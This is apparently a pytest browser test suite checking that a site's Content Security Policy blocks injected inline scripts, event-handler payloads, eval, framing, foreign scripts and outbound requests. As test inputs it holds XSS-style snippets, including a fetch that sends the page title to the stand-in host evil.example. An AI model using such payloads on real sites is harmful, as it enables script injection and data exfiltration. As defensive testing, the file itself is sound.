"""What a script that slipped into a page could do: nothing. That our own pages need no more, other tests show."""

from __future__ import annotations

import re

import pytest

from tests.browser.tab import Tab

REFUSED = re.compile(r"Content Security Policy")
INLINE = """
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
"""
FROM_ELSEWHERE = """
    const script = document.createElement("script");
    script.src = "https://evil.example/script.js";
    script.onerror = () => { window.refused = true; };
    document.body.append(script);
"""
FRAME = """
    const frame = document.createElement("iframe");
    frame.src = location.href;
    document.body.append(frame);
"""
HANDLER = """
    const image = document.createElement("div");
    image.innerHTML = "<img src='data:,' onerror='window.ran = true'>";
    document.body.append(image);
"""


@pytest.fixture
def opened(tab: Tab) -> Tab:
    tab.open("/threads")
    tab.await_figures("nav-credits")
    tab.expect(REFUSED)
    return tab


@pytest.mark.parametrize("script", [INLINE, HANDLER])
def test_an_inline_script_does_not_run(opened: Tab, script: str) -> None:
    opened.script(script)
    opened.until(lambda: any(REFUSED.search(line) for line in opened.console()), "the browser to refuse it")
    assert opened.script("return window.ran ?? null") is None


def test_text_does_not_become_a_script(opened: Tab) -> None:
    later = """setTimeout(() => {
        try { new Function("window.ran = true")(); window.said = "ran"; } catch (error) { window.said = error.name; }
    })"""  # what a driver runs itself is exempt
    opened.script(later)
    assert opened.until(lambda: opened.script("return window.said ?? null"), "an answer") == "EvalError"


def test_a_script_of_another_site_is_not_loaded(opened: Tab) -> None:
    opened.script(FROM_ELSEWHERE)
    opened.until(lambda: opened.script("return window.refused ?? null"), "the browser to refuse it")


def test_nothing_frames_a_page(opened: Tab) -> None:
    opened.script(FRAME)
    opened.until(lambda: any(REFUSED.search(line) for line in opened.console()), "the browser to refuse it")


def test_nothing_is_sent_to_another_site(opened: Tab) -> None:
    opened.script("fetch('https://evil.example/?' + document.title).catch(() => { window.refused = true; })")
    opened.until(lambda: opened.script("return window.refused ?? null"), "the browser to refuse it")


def test_data_blocks_can_be_read(opened: Tab) -> None:
    block = """const block = document.createElement("script");
        block.type = "application/json"; block.textContent = '{"a": 1}'; document.body.append(block);
        return JSON.parse(block.textContent).a"""
    assert opened.script(block) == 1
    opened.expected.clear()  # not a word about it
